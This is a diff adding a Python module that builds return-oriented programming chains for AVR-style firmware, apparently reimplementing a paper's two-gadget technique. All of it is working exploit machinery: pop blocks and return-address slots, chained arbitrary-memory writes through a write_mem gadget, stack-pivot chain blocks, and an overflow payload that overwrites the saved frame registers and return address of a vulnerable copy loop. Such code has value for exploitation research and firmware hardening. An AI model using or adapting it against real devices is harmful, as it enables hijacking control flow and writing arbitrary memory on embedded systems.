@@ -1,0 +1,178 @@
+"""ROP chain construction.
+
+Encodes the paper's two-gadget technique as reusable building blocks:
+
+* a **pop block** — the bytes a gadget's pop chain consumes, laid out in
+  pop order (the stack grows down but pops walk *up*, so byte ``i`` of a
+  block loads ``pop_regs[i]``);
+* a **return slot** — a 3-byte gadget address.  ``ret`` pops high, middle,
+  low, so the high byte sits at the lowest address (big-endian in memory);
+* a **write chain** — enter ``write_mem_gadget`` at its pop half once,
+  then bounce on its std half: each bounce stores r5/r6/r7 through Y and
+  reloads every register (including Y) for the next bounce.  The paper
+  calls this "using the second half of the program section as our first
+  gadget, and then the first half to store the values".
+
+Targets are data-space byte addresses; gadget entries are flash word
+addresses.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Dict, List, Sequence, Tuple
+
+from ..binfmt.image import FirmwareImage
+from ..errors import AttackError
+from .gadgets import GadgetFinder, StkMoveGadget, WriteMemGadget
+
+FILL_BYTE = 0xEE  # recognizable filler in payload dumps
+
+
+def ret_address_bytes(word_address: int) -> bytes:
+    """The 3 bytes ``ret`` expects, in memory order (high, mid, low)."""
+    if not 0 <= word_address < (1 << 22):
+        raise AttackError(f"gadget word address out of range: {word_address:#x}")
+    return bytes([
+        (word_address >> 16) & 0xFF,
+        (word_address >> 8) & 0xFF,
+        word_address & 0xFF,
+    ])
+
+
+@dataclass(frozen=True)
+class Write3:
+    """One 3-byte store performed by a write_mem bounce."""
+
+    target: int  # data-space address of the first stored byte
+    values: bytes  # exactly the bytes the gadget's stores cover
+
+    def __post_init__(self) -> None:
+        if not 0 <= self.target <= 0xFFFF:
+            raise AttackError(f"write target out of range: {self.target:#x}")
+
+
+class ChainBuilder:
+    """Builds payload byte sequences from an image's discovered gadgets."""
+
+    def __init__(self, image: FirmwareImage) -> None:
+        finder = GadgetFinder(image)
+        self.image = image
+        self.stk: StkMoveGadget = finder.find_stk_move()
+        self.wm: WriteMemGadget = finder.find_write_mem()
+        if self.stk.pop_regs[:2] != (28, 29):
+            raise AttackError(
+                "stk_move gadget does not reload Y first: "
+                f"pops {self.stk.pop_regs}"
+            )
+
+    # -- low-level blocks --------------------------------------------------
+
+    def pop_block(self, values: Dict[int, int]) -> bytes:
+        """Bytes consumed by the write_mem pop chain, given register values."""
+        out = bytearray()
+        for reg in self.wm.pop_regs:
+            out.append(values.get(reg, FILL_BYTE) & 0xFF)
+        return bytes(out)
+
+    def _regs_for_write(self, write: Write3) -> Dict[int, int]:
+        """Register assignment that makes one std bounce perform ``write``."""
+        stores = self.wm.stores  # ((q, reg), ...) — q=1..3 for the Fig 5 shape
+        if len(write.values) != len(stores):
+            raise AttackError(
+                f"write of {len(write.values)} bytes does not match the "
+                f"gadget's {len(stores)} stores"
+            )
+        base_q = stores[0][0]
+        y = write.target - base_q
+        if not 0 <= y <= 0xFFFF:
+            raise AttackError(f"Y base out of range for target {write.target:#x}")
+        regs = {28: y & 0xFF, 29: (y >> 8) & 0xFF}
+        for index, ((q, reg), value) in enumerate(zip(stores, write.values)):
+            if q != base_q + index:
+                raise AttackError(
+                    "non-contiguous store displacements: "
+                    f"{[s[0] for s in stores]}"
+                )
+            regs[reg] = value
+        return regs
+
+    # -- chain segments -----------------------------------------------------
+
+    def write_chain(
+        self,
+        writes: Sequence[Write3],
+        final_ret_word: int,
+        final_regs: Dict[int, int],
+    ) -> bytes:
+        """The byte stream consumed from the first pop-half entry onwards.
+
+        Layout: ``N`` write blocks each returning into the std half, then a
+        final block whose ret goes to ``final_ret_word`` with ``final_regs``
+        loaded (e.g. r28/r29 = new stack for a closing stk_move hop).
+        """
+        out = bytearray()
+        for write in writes:
+            out += self.pop_block(self._regs_for_write(write))
+            out += ret_address_bytes(self.wm.std_entry_word)
+        # entering the std half one last time performs the final write; its
+        # pops then load final_regs and its ret leaves the chain
+        out += self.pop_block(final_regs)
+        out += ret_address_bytes(final_ret_word)
+        return bytes(out)
+
+    def chain_block(
+        self,
+        writes: Sequence[Write3],
+        final_ret_word: int,
+        final_regs: Dict[int, int],
+    ) -> bytes:
+        """A relocatable chain segment entered via a stk_move hop.
+
+        Byte 0 is what SP+1 points at after ``stk_move`` lands: three bytes
+        for its pops (r28/r29/r16 — unused here), a ret slot into the
+        write_mem pop half, then the write chain.
+        """
+        header = bytes([FILL_BYTE] * self.stk.pop_bytes)
+        header += ret_address_bytes(self.wm.pop_entry_word)
+        return header + self.write_chain(writes, final_ret_word, final_regs)
+
+    def chain_block_cost(self, write_count: int) -> int:
+        """Size in bytes of :meth:`chain_block` for ``write_count`` writes."""
+        per_block = self.wm.pop_bytes + 3
+        return self.stk.pop_bytes + 3 + (write_count + 1) * per_block
+
+    # -- overflow framing ----------------------------------------------------
+
+    def overflow_payload(
+        self,
+        buffer_fill: bytes,
+        buffer_size: int,
+        r29: int,
+        r28: int,
+        ret_word: int,
+    ) -> bytes:
+        """The raw bytes the vulnerable copy loop must receive.
+
+        ``buffer_fill`` occupies the buffer (padded with filler); the two
+        following bytes land in the saved r29/r28 slots and the last three
+        overwrite the pushed return address.
+        """
+        if len(buffer_fill) > buffer_size:
+            raise AttackError(
+                f"chain of {len(buffer_fill)} bytes exceeds the "
+                f"{buffer_size}-byte buffer"
+            )
+        padded = buffer_fill + bytes([FILL_BYTE]) * (buffer_size - len(buffer_fill))
+        return padded + bytes([r29 & 0xFF, r28 & 0xFF]) + ret_address_bytes(ret_word)
+
+    def split_writes(self, target: int, data: bytes) -> List[Write3]:
+        """Split an arbitrary byte string into gadget-sized Write3 stores."""
+        width = len(self.wm.stores)
+        writes: List[Write3] = []
+        for offset in range(0, len(data), width):
+            chunk = data[offset : offset + width]
+            if len(chunk) < width:
+                chunk = chunk + bytes([FILL_BYTE]) * (width - len(chunk))
+            writes.append(Write3(target + offset, chunk))
+        return writes
